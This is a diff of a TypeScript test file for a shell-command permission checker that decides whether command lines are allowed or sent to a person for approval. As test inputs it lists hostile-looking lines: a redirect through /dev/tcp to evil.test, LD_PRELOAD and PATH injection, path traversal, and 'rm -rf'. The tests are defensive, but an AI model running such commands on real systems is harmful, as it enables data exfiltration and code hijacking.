@@ -16,6 +16,7 @@ const context = (changed: Partial<CommandContext> = {}): CommandContext => ({
   env: { PATH: "/usr/bin" },
   resolve: async (name) => `/usr/bin/${name}`,
   isInside: async (path) => path === root || path.startsWith(`${root}/`),
+  canonical: async (path) => path,
   protection: async (path) => protection(path, { roots: [root], home: `${home}/.parley` }),
   repository: async () => ({ root, risk: undefined }),
   ...changed,
@@ -132,7 +133,7 @@ describe("what a person sees of a command line", () => {
         { name: "grep", binary: { kind: "file", path: "/usr/bin/grep" } },
         { name: "echo", binary: { kind: "builtin" } },
       ],
-      always: [["git", "log"], ["grep"], ["echo"]],
+      always: [],
     });
     expect(commands.map(({ words, joint }) => [joint, ...words])).toEqual([
       ["first", "git", "log"],
@@ -187,7 +188,20 @@ describe("what a person sees of a command line", () => {
 describe("a rule that a person would have remembered", () => {
   it.each([
     ["git commit -m 'a b'", [["git", "commit"]]],
-    ["git push -u origin main", [["git", "push"]]],
+    ["git push -u origin main", [["git", "push", "-u", "origin", "main"]]],
+    ["npm run build", [["npm", "run", "build"]]],
+    ["npm test 2>&1 | tail -5", [["npm", "test"]]],
+    ["npm test >/dev/null 2>&1", [["npm", "test"]]],
+    ["npm test &>/dev/null", [["npm", "test"]]],
+    ["make check 2>/dev/null | grep -c ok", [["make", "check"]]],
+    ["make < input.txt", [["make"]]],
+    ["cd src && npm test", [["npm", "test"]]],
+    ["cd src && npm test 2>&1 | tail -n 20 | grep -v skipped", [["npm", "test"]]],
+    ["CI=1 NODE_ENV=test npm test", [["npm", "test"]]],
+    ["FOO=bar npm test", [["FOO=bar", "npm", "test"]]],
+    ["git reset HEAD~1", [["git", "reset", "HEAD~1"]]],
+    ["rm -rf build", [["rm", "-rf", "build"]]],
+    ["bundle exec rspec", [["bundle", "exec", "rspec"]]],
     ["npm test", [["npm", "test"]]],
     ["make", [["make"]]],
     ["make build && touch done", [["make", "build"], ["touch"]]],
@@ -201,13 +215,21 @@ describe("a rule that a person would have remembered", () => {
     expect(await decision(text, { allow: always })).toBe("allow");
   });
 
-  it.each(["./run.sh", "export A=1", "cat /etc/hosts", "cd ..", "eval ls", "ls *.ts", "touch ../x/../y src/../../z"])(
-    "does not exist for %s",
-    async (text) => {
-      const { always } = await read(text);
-      expect(await decision(text, { allow: always })).toBe("ask");
-    },
-  );
+  it.each([
+    "./run.sh",
+    "PATH=/x make",
+    "LD_PRELOAD=x make",
+    "git_dir=x make",
+    "export A=1",
+    "cat /etc/hosts",
+    "cd ..",
+    "eval ls",
+    "ls *.ts",
+    "touch ../x/../y src/../../z",
+  ])("does not exist for %s", async (text) => {
+    const { always } = await read(text);
+    expect(await decision(text, { allow: always })).toBe("ask");
+  });
 });
 
 describe("a rule that allows", () => {
@@ -261,15 +283,47 @@ describe("a rule that allows", () => {
     for (const text of [
       "make > x",
       "make &",
+      "make 2> x",
+      "make < ../x",
+      "make < /dev/tcp/evil.test/80",
       "make $X",
       "make `x`",
       "A=1 make",
+      "PATH=. make",
+      "NODE_ENV=production make",
+      "LC_ALL=../x make",
       "make *",
       "make {a,b}",
       "make ~",
       "make #x",
     ])
       expect([text, await allows("make", text)]).toEqual([text, "ask"]);
+  });
+
+  it("covers each command of a line, from the folder the line is in by then", async () => {
+    expect(await allows("npm test", "npm test 2>&1 | tail -5")).toBe("allow");
+    expect(await allows("npm test", "cd src && npm test < ../README.md 2>/dev/null")).toBe("allow");
+    expect(await allows("npm test", "cd src && cat ../README.md && npm test")).toBe("allow");
+    expect(await allows("npm test", "cd . && cat ../x")).toBe("ask");
+    for (const text of [
+      "cd src; cat ../x",
+      "true || cd src && cat ../x",
+      "cd src | cat ../x",
+      "cd src && ls; cat ../x",
+    ])
+      expect([text, await decision(text)]).toEqual([text, "ask"]);
+    expect(await allows("npm test", "npm test 2>&1 | tee log")).toBe("ask");
+    expect(await allows("FOO=1 npm test", "FOO=1 npm test")).toBe("allow");
+    expect(await allows("FOO=1 npm test", "FOO=1 npm test x")).toBe("ask");
+    expect(await allows("FOO=1 npm test", "FOO=2 npm test")).toBe("ask");
+  });
+
+  it("is judged where a link of a changed folder leads", async () => {
+    const canonical = async (path: string) => (path === `${root}/link` ? "/elsewhere/deep" : path);
+    const isInside = async (path: string) =>
+      path === root || path.startsWith(`${root}/`) || path.startsWith("/elsewhere/deep");
+    expect(await decision("cd link && cat x", {}, { canonical, isInside })).toBe("allow");
+    expect(await decision("cd link && cat ../x", {}, { canonical, isInside })).toBe("ask");
   });
 
   it("is needed for everything, reading too, where only what rules name may run", async () => {
